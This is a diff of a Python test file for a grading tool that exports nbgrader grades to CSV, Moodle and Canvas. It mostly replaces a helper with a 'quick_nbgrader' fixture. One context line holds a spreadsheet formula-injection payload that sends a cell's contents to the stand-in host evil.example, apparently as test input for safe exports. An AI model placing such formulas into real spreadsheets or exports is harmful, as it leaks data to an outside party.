@@ -16,7 +16,7 @@ from coursekit.errors import GradingError
 from coursekit.grading.course import Course
 from coursekit.grading.exchange.exports import export
 
-from .conftest import ROOT, nbgrader
+from .conftest import ROOT
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"see")'
 STUDENTS = {
@@ -89,8 +89,8 @@ def table(path: Path) -> list[dict[str, str]]:
         return list(csv.DictReader(file, strict=True))
 
 
-def test_nbgrader_export_writes_nbgraders_columns_as_a_csv_that_holds_any_name(course):
-    run = nbgrader(course.root, "export")
+def test_nbgrader_export_writes_nbgraders_columns_as_a_csv_that_holds_any_name(course, quick_nbgrader):
+    run = quick_nbgrader(course.root, "export")
     assert run.returncode == 0, run.stderr
     rows = table(course.root / "grades.csv")
     assert sorted(row["student_id"] for row in rows) == sorted(2 * list(STUDENTS))
@@ -113,8 +113,8 @@ def test_where_nbgraders_own_export_is_right_this_one_says_the_same(made, tmp_pa
     assert ours == table(tmp_path / "theirs.csv")
 
 
-def test_a_worksheet_of_moodle_gets_grades_and_no_other_byte_changes(course):
-    run = nbgrader(
+def test_a_worksheet_of_moodle_gets_grades_and_no_other_byte_changes(course, quick_nbgrader):
+    run = quick_nbgrader(
         course.root,
         "export",
         "--exporter=coursekit.grading.exchange.exports.MoodleExport",
@@ -192,8 +192,8 @@ def test_moodles_import_gets_a_column_for_each_assignment_and_nobody_without_a_g
     assert said == ()
 
 
-def test_who_handed_in_nothing_gets_a_zero_where_that_is_wanted(course):
-    run = nbgrader(
+def test_who_handed_in_nothing_gets_a_zero_where_that_is_wanted(course, quick_nbgrader):
+    run = quick_nbgrader(
         course.root,
         "export",
         "--exporter=coursekit.grading.exchange.exports.MoodleExport",
@@ -223,8 +223,8 @@ def test_of_students_that_are_not_wanted_nothing_is_written_or_said(course):
     assert not [line for line in said if line.startswith("eve")]
 
 
-def test_a_gradebook_of_canvas_gets_grades_and_no_other_byte_changes(course):
-    run = nbgrader(
+def test_a_gradebook_of_canvas_gets_grades_and_no_other_byte_changes(course, quick_nbgrader):
+    run = quick_nbgrader(
         course.root,
         "export",
         "--exporter=coursekit.grading.exchange.exports.CanvasExport",
@@ -303,8 +303,8 @@ def test_what_cannot_be_used_is_refused_with_file_cause_and_mend(course):
         export(course, "csv", course.root / "w.csv" / "u.csv")
 
 
-def test_nbgrader_export_says_what_is_wrong_in_a_line_and_fails(course):
-    run = nbgrader(
+def test_nbgrader_export_says_what_is_wrong_in_a_line_and_fails(course, quick_nbgrader):
+    run = quick_nbgrader(
         course.root,
         "export",
         "--exporter=coursekit.grading.exchange.exports.CanvasExport",
